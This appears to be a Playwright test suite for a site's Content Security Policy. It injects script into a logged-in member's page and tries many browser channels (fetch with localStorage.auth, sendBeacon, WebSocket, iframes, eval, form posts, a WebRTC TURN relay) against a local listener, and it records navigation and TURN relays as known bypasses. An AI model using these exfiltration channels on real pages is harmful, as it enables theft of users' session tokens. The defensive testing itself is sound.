import { expect, type Page, test as shared } from '../fixture.ts'
import { makeMember } from '../support/client.ts'
import { type ForeignListener, startForeignListener } from '../support/foreign-listener.ts'
import { loggedIn } from '../support/sample-members.ts'
import { settled } from '../support/scenes/stage.ts'

// A script in the page of a logged-in member, and a server of a stranger that waits for what it takes there.

const test = shared.extend<{ stranger: ForeignListener }>({ stranger: ownListener })

// biome-ignore lint/correctness/noEmptyPattern: Playwright reads the names of fixtures from the pattern.
async function ownListener({}, use: (stranger: ForeignListener) => Promise<void>): Promise<void> {
  const listener = await startForeignListener()
  await use(listener)
  listener.stop()
}

type Way = (at: string) => unknown

/** The ways of a script to send something to another server, each to an address of its own. */
const ways: Record<string, Way> = {
  fetch: (at) => fetch(`http://${at}/fetch`, { method: 'POST', mode: 'no-cors', body: localStorage.auth ?? 'nothing' }),
  beacon: (at) => navigator.sendBeacon(`http://${at}/beacon`, 'token'),
  socket: (at) => void new WebSocket(`ws://${at}/socket`),
  events: (at) => void new EventSource(`http://${at}/events`),
  image: (at) => void Object.assign(new Image(), { src: `http://${at}/image` }),
  media: (at) => new Audio(`http://${at}/media`).load(),
  font: (at) => void new FontFace('planted', `url(http://${at}/font)`).load().catch(() => undefined),
  background: (at) => void document.body.style.setProperty('background-image', `url(http://${at}/background)`),
  sheet: (at) =>
    document.head.append(
      Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `http://${at}/sheet` }),
    ),
  prefetch: (at) =>
    document.head.append(
      Object.assign(document.createElement('link'), { rel: 'prefetch', href: `http://${at}/prefetch` }),
    ),
  frame: (at) => document.body.append(Object.assign(document.createElement('iframe'), { src: `http://${at}/frame` })),
  script: (at) => document.head.append(Object.assign(document.createElement('script'), { src: `http://${at}/script` })),
  inline: (at) =>
    document.head.append(Object.assign(document.createElement('script'), { text: `fetch('http://${at}/inline')` })),
  handler: (at) => {
    const button = document.createElement('button')
    button.setAttribute('onclick', `new Image().src = 'http://${at}/handler'`)
    document.body.append(button)
    button.click()
  },
  markup: (at) => document.body.insertAdjacentHTML('beforeend', `<img src="http://${at}/markup">`),
  // biome-ignore lint/security/noGlobalEval: it is what the policy has to refuse.
  program: (at) => window.eval(`new Image().src = 'http://${at}/program'`),
  form: (at) => {
    const frame = Object.assign(document.createElement('iframe'), { name: 'planted' })
    const form = Object.assign(document.createElement('form'), { action: `http://${at}/form`, target: 'planted' })
    document.body.append(frame, form)
    form.submit()
  },
}

const pathsIn = ({ received }: ForeignListener) => [...new Set(received.map((line) => line.split(/[ ?]/)[1]))].sort()

/** Tries every way; an exception is as good a refusal as silence. */
async function tryAll(page: Page, { at }: ForeignListener): Promise<void> {
  for (const way of Object.values(ways)) await page.evaluate(way as (at: string) => void, at).catch(() => undefined)
}

/** Leaves the page, which no policy can forbid: what arrives at the stranger last. */
async function leave(page: Page, stranger: ForeignListener): Promise<void> {
  await page.evaluate((at) => location.assign(`http://${at}/leave`), stranger.at)
  await expect.poll(() => pathsIn(stranger)).toContain('/leave')
}

test('a script in the page of a member reaches no other server, except by leaving the page', async ({
  open,
  karibu,
  stranger,
}) => {
  const { page, allow } = await open('desktop', loggedIn(karibu, await makeMember(karibu)))
  allow(/./)
  await page.goto('/dashboard/profile')
  await settled(page)
  await tryAll(page, stranger)
  await leave(page, stranger)
  expect(pathsIn(stranger)).toEqual(['/leave'])
})

test('the same ways all reach it from a page without a policy', async ({ open, stranger }) => {
  const { page, allow } = await open('desktop')
  allow(/./)
  const site = await startForeignListener()
  await page.goto(`http://${site.at}/`)
  await tryAll(page, stranger)
  const expected = Object.keys(ways).map((name) => `/${name}`)
  await expect.poll(() => pathsIn(stranger)).toEqual(expected.sort())
  site.stop()
})

// A known limit, see docs/SECURITY.md: no directive forbids it where a site has calls of its own.
test('a script reaches a call relay of a stranger, which no policy of a site with calls forbids', async ({
  open,
  karibu,
  stranger,
}) => {
  const { page } = await open('desktop', loggedIn(karibu, await makeMember(karibu)))
  await page.goto('/dashboard/profile')
  await settled(page)
  await page.evaluate(async (at) => {
    const urls = [`turn:${at}?transport=tcp`, `turn:${at}?transport=udp`]
    const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'token', credential: 'token' }] })
    peer.createDataChannel('planted')
    await peer.setLocalDescription()
    Object.assign(window, { peer })
  }, stranger.at)
  await expect.poll(() => stranger.received.length).toBeGreaterThan(0)
})
